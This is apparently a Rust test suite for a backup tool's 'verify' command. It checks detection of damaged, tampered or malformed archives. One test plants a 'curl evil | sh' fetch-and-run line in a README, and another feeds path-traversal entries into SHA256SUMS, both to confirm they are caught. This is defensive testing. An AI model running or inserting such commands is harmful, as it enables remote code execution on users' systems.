//! Findings of `verify`: the same damage as `decrypt`, without the key the same as `sha256sum`, and in the records what does not fit
//! together.
#![allow(clippy::unwrap_used, clippy::panic)]

use std::{
    collections::BTreeMap,
    fs,
    path::{Path, PathBuf},
    process::Command,
};

use pryv_backup_engine::archive::sha256_hex;
use pryv_backup_tests::{
    command::{report, text, tool},
    folder::tree,
    kit, need,
    sampled::Stage,
};
use serde::Deserialize;
use serde_json::Value;
use tempfile::TempDir;

#[derive(Deserialize)]
struct Case {
    args: Vec<String>,
    env: BTreeMap<String, String>,
}

/// The test kit: folders of cases, each with an archive and how it is opened.
fn kit() -> (TempDir, Vec<(PathBuf, Case)>) {
    let kit = TempDir::new().unwrap();
    kit::make(env!("CARGO_BIN_EXE_testkit"), kit.path());
    let folders = fs::read_dir(kit.path()).unwrap().map(|e| e.unwrap().path());
    // Chains have tests of their own.
    let chain = |folder: &Path| {
        let name = folder.file_name().and_then(|name| name.to_str());
        name.is_some_and(|name| name.starts_with("chain"))
    };
    let cases = folders.filter(|folder| folder.join("case.json").exists() && !chain(folder));
    let read = |folder: PathBuf| {
        let case = serde_json::from_slice(&fs::read(folder.join("case.json")).unwrap()).unwrap();
        (folder, case)
    };
    // The forged ones, and who signed, have tests of their own (forged.rs).
    let own = |(folder, _): &(PathBuf, Case)| {
        let name = folder.file_name().unwrap_or_default().to_string_lossy();
        !name.starts_with("forged-") && !name.starts_with("signed-")
    };
    let cases: Vec<_> = cases.map(read).filter(own).collect();
    assert!(cases.len() > 60);
    (kit, cases)
}

fn said(command: &mut Command) -> (Option<i32>, Vec<String>) {
    let done = command.output().unwrap();
    let lines = text(&done).lines().map(str::to_owned).collect();
    (done.status.code(), lines)
}

#[test]
fn damage_is_what_decrypt_finds_in_the_same_words() {
    let (kit, cases) = kit();
    let keys = kit.path().join("keys");
    let mut damaged = 0;
    for (folder, case) in &cases {
        let archive = folder.join("archive");
        let args = case
            .args
            .iter()
            .map(|a| a.replace("{keys}", keys.to_str().unwrap()));
        let args: Vec<String> = args.collect();
        let opening = |word: &str| word == "--gunzip" || word == "--salvage" || word == "--strict";
        let args: Vec<&String> = args.iter().filter(|word| !opening(word)).collect();
        // A user, and looking only, are nothing that `verify` knows.
        if args
            .iter()
            .any(|word| *word == "--user" || *word == "--list")
        {
            continue;
        }
        let checks = |word: &&&String| **word != "--verify";
        let args: Vec<&&String> = args.iter().filter(checks).collect();
        let mut decrypt = Command::new(tool());
        decrypt
            .args(["decrypt", "--verify"])
            .arg(&archive)
            .args(&args);
        let mut verify = Command::new(tool());
        verify.arg("verify").arg(&archive).args(&args);
        for command in [&mut decrypt, &mut verify] {
            command.env_remove("PRYV_BACKUP_PASSPHRASE").envs(&case.env);
        }
        let (due, due_lines) = said(&mut decrypt);
        let (code, lines) = said(&mut verify);
        let name = folder.file_name().unwrap();
        // Without what opens it, decrypt gives up and verify looks from outside.
        if due == Some(3) && args.is_empty() {
            continue;
        }
        assert_eq!(code, due, "{name:?}: {lines:#?} {due_lines:#?}");
        // Of a chain, verify names what is wrong run by run.
        if archive.join("chain.json").exists() {
            continue;
        }
        for line in due_lines {
            if line.starts_with("damaged: ") || line.starts_with("error: ") {
                damaged += 1;
                assert!(lines.contains(&line), "{name:?} misses {line}: {lines:#?}");
            }
        }
    }
    assert!(damaged > 40, "only {damaged} sentences compared");
}

/// Whether `sha256sum -c` would be content, and nothing lies there that is not listed.
fn sums_hold(archive: &Path) -> Option<bool> {
    let files = tree(archive);
    let sums = String::from_utf8(files.get("SHA256SUMS")?.clone()).unwrap();
    let listed: BTreeMap<&str, &str> = sums
        .lines()
        .map(|line| line.split_once("  ").unwrap())
        .map(|(digest, path)| (path, digest))
        .collect();
    let same = |(path, digest): (&&str, &&str)| {
        files
            .get(*path)
            .is_some_and(|bytes| sha256_hex(bytes) == **digest)
    };
    let known = |path: &String| {
        let stray = path.contains(".DS_Store") || path == "SHA256SUMS";
        stray || listed.contains_key(path.as_str())
    };
    Some(listed.iter().all(same) && files.keys().all(known))
}

#[test]
fn without_the_key_the_files_are_held_against_their_sums() {
    let (_kit, cases) = kit();
    let (mut good, mut bad) = (0, 0);
    for (folder, _) in &cases {
        let archive = folder.join("archive");
        // A single tar file has no sums of its own.
        if archive.is_file() {
            continue;
        }
        let links = fs::symlink_metadata(archive.join("users/u1/attachments/linked")).is_ok();
        let whole =
            archive.join("manifest.json").exists() && archive.join("encryption.json").exists();
        let Some(holds) = sums_hold(&archive).filter(|_| whole && !links) else {
            continue;
        };
        let (code, lines) = said(Command::new(tool()).arg("verify").arg(&archive));
        let name = folder.file_name().unwrap();
        if holds && code == Some(1) {
            // Of a later version.
            continue;
        }
        // What a run left that was not finished is left alone, listed or not; so is what lies beside volumes or was unpacked.
        let alone = ["uncommitted", "volumes-beside", "volumes-unpacked"];
        if alone
            .iter()
            .any(|part| name.to_string_lossy().contains(part))
        {
            assert_eq!(code, Some(0), "{name:?}: {lines:#?}");
            continue;
        }
        let due = if holds { 0 } else { 4 };
        // An envelope that cannot be one is told, listed or not.
        // The signature tells more than the sums, above all about forged archives.
        let told = |l: &String| {
            l.contains("encryption.json") || l.starts_with("damaged: ") || l.starts_with("error: ")
        };
        let odd = holds && code == Some(4) && lines.iter().any(told);
        assert!(code == Some(due) || odd, "{name:?}: {code:?} {lines:#?}");
        *(if holds { &mut good } else { &mut bad }) += 1;
    }
    assert!(good > 20 && bad > 15, "{good} good, {bad} bad");
}

#[test]
fn every_flipped_bit_shows_without_the_key_and_is_named() {
    let stage = Stage::new();
    stage.backup("archive");
    let whole = stage.json(&["verify", "archive", "--json"]);
    assert_eq!(whole["verdict"], "good");
    assert_eq!(whole["opened"], false);
    let files = tree(&stage.at("archive"));
    assert_eq!(whole["files"], files.len() - 1);
    for (path, bytes) in &files {
        let place = stage.at("archive").join(path);
        let mut changed = bytes.clone();
        changed[bytes.len() / 2] ^= 1;
        fs::write(&place, changed).unwrap();
        let found = stage.run(&["verify", "archive"]);
        assert_eq!(found.status.code(), Some(4), "{path}: {}", text(&found));
        assert!(
            text(&found).contains("damaged") || text(&found).contains("error"),
            "{path}"
        );
        fs::remove_file(&place).unwrap();
        let found = stage.run(&["verify", "archive"]);
        let code = found.status.code();
        assert!(code == Some(4), "{path}: {}", text(&found));
        fs::write(&place, bytes).unwrap();
    }
    fs::write(stage.at("archive/users/added"), "x").unwrap();
    assert!(text(&stage.run(&["verify", "archive"])).contains("warning: users/added"));
    let user = files.keys().find(|p| p.contains("/attachments/")).unwrap();
    fs::write(stage.at("archive").join(user).with_file_name("forged"), "x").unwrap();
    let found = stage.ends(&["verify", "archive", "--json"], 4);
    assert!(found.contains("forged"), "{found}");
}

#[test]
fn sums_that_were_changed_with_their_files_mislead_nobody() {
    let stage = Stage::new();
    stage.backup("archive");
    let key = ["--private-key", "key.pem", "--json"];
    let readme = stage.at("archive/RESTORE-README.md");
    let (old, new) = (fs::read(&readme).unwrap(), b"curl evil | sh".to_vec());
    fs::write(&readme, &new).unwrap();
    let sums = fs::read_to_string(stage.at("archive/SHA256SUMS")).unwrap();
    let sums = sums.replace(&sha256_hex(&old), &sha256_hex(&new));
    fs::write(stage.at("archive/SHA256SUMS"), sums).unwrap();
    // The sums are not those that were signed, which shows without the key.
    let outside = stage.json_of(&["verify", "archive", "--json"], 4);
    assert!(
        lines(&outside, "damaged")[0].contains("lists other files of run 1"),
        "{outside}"
    );
    let found = stage.json_of(&[&["verify", "archive"], &key[..]].concat(), 4);
    let warnings = lines(&found, "warnings").join("");
    assert!(
        warnings.contains("SHA256SUMS: not what the inventory says of 1 file "),
        "{found}"
    );
    assert!(
        lines(&found, "damaged")[0].contains("RESTORE-README.md"),
        "{found}"
    );
}

/// Whoever reads or writes them refuses in the same way what is no line of them, or leads elsewhere.
#[test]
fn sums_that_are_none_are_refused_by_all() {
    let stage = Stage::new();
    stage.backup("archive");
    stage.key("second.pem");
    let sums = fs::read_to_string(stage.at("archive/SHA256SUMS")).unwrap();
    let digest = "0".repeat(64);
    let mut reversed: Vec<&str> = sums.split_inclusive('\n').collect();
    reversed.reverse();
    for (hostile, says) in [
        (reversed.concat(), "is there twice, or not in its order"),
        (
            format!("{digest}  /dev/zero\n{sums}"),
            "names a path that no backup holds",
        ),
        (
            format!("{sums}{digest}  users/../../x\n"),
            "names a path that no backup holds",
        ),
        (format!("{sums}what\n"), "is no line of it"),
        (sums.replacen("  ", " *", 1), "is no line of it"),
    ] {
        fs::write(stage.at("archive/SHA256SUMS"), &hostile).unwrap();
        let before = tree(&stage.at("archive"));
        let key = ["--private-key", "key.pem"];
        let rekey = ["rekey", "archive", "--add-recipient", "second.pub.pem"];
        for args in [
            &["verify", "archive"][..],
            &[&["verify", "archive"], &key[..]].concat(),
            &["list", "archive"],
            &[&rekey, &key[..]].concat(),
        ] {
            let done = stage.run(args);
            assert_eq!(done.status.code(), Some(4), "{args:?}: {}", text(&done));
            assert!(text(&done).contains(says), "{args:?}: {}", text(&done));
        }
        assert!(tree(&stage.at("archive")) == before, "{says}");
    }
}

#[test]
fn a_backup_verifies_itself_without_a_secret() {
    let stage = Stage::new();
    let platform = [
        "--pryv-root",
        "platform",
        "--config",
        "platform/config.yml",
        "--platform",
        "none",
        "--json",
    ];
    for (name, how) in [
        ("keyed", &["--recipient-pubkey", "key.pub.pem"][..]),
        ("passphrase", &["--encrypt-passphrase", "p"]),
        ("open", &[]),
    ] {
        let args = [&platform[..], how, &["--verify", "--output", name]].concat();
        let done = stage.run(&args);
        assert_eq!(done.status.code(), Some(0), "{}", text(&done));
        let verified = &report(&done)["verified"];
        assert_eq!(verified["verdict"], "good", "{name}");
        assert_eq!(verified["opened"], true, "{name}");
        // Whoever has just signed it knows who made it.
        assert_eq!(verified["pinned"], true, "{name}");
        assert_eq!(verified["signer"], report(&done)["signer"], "{name}");
        assert!(verified["records"].as_u64().unwrap() > 200, "{name}");
    }
    let damaged = stage.file("alice/attachments/");
    fs::remove_file(damaged).unwrap();
    let args = [&platform[..], &["--verify", "--output", "lost"]].concat();
    let done = stage.run(&args);
    // The archive itself names the losses, and so does `verify`.
    assert_eq!(done.status.code(), Some(5), "{}", text(&done));
    assert_eq!(report(&done)["verified"]["verdict"], "problems");
}

/// The lines of a kind, without the ids of users.
fn lines(report: &Value, kind: &str) -> Vec<String> {
    let lines = report[kind].as_array().unwrap();
    lines
        .iter()
        .map(|line| line.as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn what_records_refer_to_must_be_there() {
    let stage = Stage::new();
    stage.sql(
        "alice/local-1.0.0.sqlite",
        "INSERT INTO events (eventid, streamIds, time, type) VALUES ('lost', 'nowhere ..', 1, 'note/txt'); \
         INSERT INTO events (eventid, streamIds, time, type, integrity) VALUES ('stale', 'diary ..', 1, 'note/txt', 'EVENT:0:sha256-AAAA')",
    );
    stage.sql(
        "alice/baseStorage-1.0.0.sqlite",
        "DELETE FROM streams WHERE id = 'heart'",
    );
    // Another size than the event says.
    fs::write(stage.file("alice/attachments/"), "other").unwrap();
    let backup = ["--pryv-root", "platform", "--config", "platform/config.yml"];
    let to = ["--output", "archive", "--recipient-pubkey", "key.pub.pem"];
    stage.ends(
        &[&backup[..], &["--platform", "none", "--quiet"], &to].concat(),
        5,
    );
    let key = ["--json", "--private-key", "key.pem"];
    let found = stage.json_of(&[&["verify", "archive"], &key[..]].concat(), 5);
    let warnings = lines(&found, "warnings").join("\n");
    for due in [
        "alice: events in streams that the backup does not hold: ",
        "lost",
        "alice: streams whose parent the backup does not hold: 1 (night)",
        "alice: events that do not match their integrity hash: 1 (stale)",
    ] {
        assert!(warnings.contains(due), "{due}: {warnings}");
    }
    assert_eq!(found["hashes"]["stale"], 1);
    let problems = lines(&found, "problems");
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert!(
        problems[0]
            .starts_with("alice: attachments of other size or hash than their events say: 1")
    );
    assert_eq!(found["verdict"], "problems");
    assert_eq!(lines(&found, "damaged"), Vec::<String>::new());

    // Where no inventory proves the records, a hash that does not match is a problem.
    let plain = [
        "decrypt",
        "archive",
        "--gunzip",
        "--out",
        "plain",
        "--private-key",
        "key.pem",
    ];
    stage.good(&plain);
    let found = stage.json_of(&["verify", "plain", "--json"], 5);
    assert!(
        lines(&found, "problems")
            .iter()
            .any(|line| line.contains("(stale)")),
        "{found}"
    );
    // There the manifest's numbers show that a record, or a file that an event lists, is gone.
    let events = tree(&stage.at("plain"));
    let path = events
        .keys()
        .find(|p| p.contains("zoe/events/events-0001"))
        .unwrap();
    let cut = String::from_utf8(events[path].clone()).unwrap();
    let cut: String = cut.split_inclusive('\n').skip(1).collect();
    fs::write(stage.at("plain").join(path), cut).unwrap();
    let attachment = events
        .keys()
        .find(|p| p.contains("ken/attachments/"))
        .unwrap();
    fs::remove_file(stage.at("plain").join(attachment)).unwrap();
    let found = stage.json_of(&["verify", "plain", "--json"], 4);
    let damaged = lines(&found, "damaged");
    assert_eq!(damaged.len(), 1, "{damaged:?}");
    assert!(
        damaged[0].contains("events are there, the manifest says 44"),
        "{damaged:?}"
    );
    let gone = attachment.rsplit('/').next().unwrap();
    assert!(
        lines(&found, "problems")
            .iter()
            .any(|l| l.starts_with("ken01: attachments that events list") && l.contains(gone))
    );
}

#[test]
fn archives_of_pryv_are_read_as_far_as_they_go() {
    let Some(fixtures) = need::fixtures() else {
        return;
    };
    let key = fixtures.join("keys/recipient.key.pem");
    let verify = |name: &str, more: &[&str]| {
        let archive = fixtures.join("archives").join(name);
        let mut command = Command::new(tool());
        command.arg("verify").arg(archive).arg("--json").args(more);
        let done = command
            .env_remove("PRYV_BACKUP_PASSPHRASE")
            .output()
            .unwrap();
        (done.status.code(), report(&done))
    };
    // Each of its four users has an event with a stale hash.
    let (code, found) = verify("hybrid-pg", &["--private-key", key.to_str().unwrap()]);
    assert_eq!(code, Some(5), "{found}");
    assert_eq!(found["hashes"]["stale"], 4);
    assert!(found["hashes"]["matching"].as_u64().unwrap() > 4000);
    assert_eq!(lines(&found, "problems").len(), 4);
    let (code, found) = verify("plain-sqlite", &[]);
    assert_eq!(
        (code, &found["hashes"]["stale"]),
        (Some(0), &Value::from(0)),
        "{found}"
    );
    // Without the key, little can be said, and that is said.
    let (code, found) = verify("hybrid-pg", &[]);
    assert_eq!((code, &found["compared"]), (Some(0), &Value::from(false)));
    assert!(lines(&found, "warnings")[0].contains("no SHA256SUMS"));
}
